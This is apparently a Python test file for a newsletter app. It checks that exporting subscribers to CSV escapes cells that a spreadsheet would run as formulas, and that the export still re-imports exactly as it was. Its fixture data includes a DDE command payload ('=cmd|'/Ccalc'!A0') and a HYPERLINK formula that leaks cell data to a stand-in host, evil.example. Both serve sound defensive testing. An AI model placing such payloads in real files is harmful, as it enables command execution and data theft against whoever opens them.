"""Exporting the subscriber list for a spreadsheet: an address or a name that a
spreadsheet would run as a formula (=cmd|…, =HYPERLINK(…), +, -, @) is written behind an
apostrophe, so it shows as text; the file still imports back exactly as it was."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from digest.app import make_app, subscribing
from tests.support.settings import make_settings

PEOPLE = [
    ("=cmd|'/Ccalc'!A0@example.org", "Ada"),
    ("grace@example.org", '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'),
    ("+1@example.org", "+Plus Sign"),
    ("-dash@example.org", "-Minus"),
    ("plain@example.org", "@Mention"),
    ("quote@example.org", "'=Already Quoted"),
    ("apostrophe@example.org", "'Tis Me"),
    ("normal@example.org", "Normal Name"),
]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def exported(tmp_path: Path, name: str) -> tuple[str, list[tuple[str, str]]]:
    """Add PEOPLE to a fresh state and export it: (CSV, [(address, name) stored])."""
    dumps = tmp_path / name / "dumps"
    dumps.mkdir(parents=True)
    book = subscribing.book(make_app(make_settings(tmp_path / name, dumps)))
    for address, person in PEOPLE:
        book.add(address, name=person)
    out = io.StringIO()
    assert book.export_csv(out) == len(PEOPLE)
    return out.getvalue(), sorted((s.address, s.name) for s in book.list())


def test_no_exported_cell_starts_a_formula_and_the_file_imports_back(tmp_path: Path) -> None:
    text, stored = exported(tmp_path, "a")
    assert sorted(stored) == sorted(PEOPLE)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["email", "name", "themes", "status", "watch", "mute", "more", "less"]
    cells = [cell for row in rows[1:] for cell in row]
    assert [c for c in cells if c.startswith(FORMULA)] == []
    assert ["'=cmd|'/Ccalc'!A0@example.org", "Ada", "", "active", "", "", "", ""] in rows
    # and the file still imports back exactly as it was
    dumps = tmp_path / "b" / "dumps"
    dumps.mkdir(parents=True)
    book = subscribing.book(make_app(make_settings(tmp_path / "b", dumps)))
    report = book.import_csv(io.StringIO(text, newline=""))
    assert report.errors == [] and report.added == len(PEOPLE)
    assert sorted((s.address, s.name) for s in book.list()) == stored
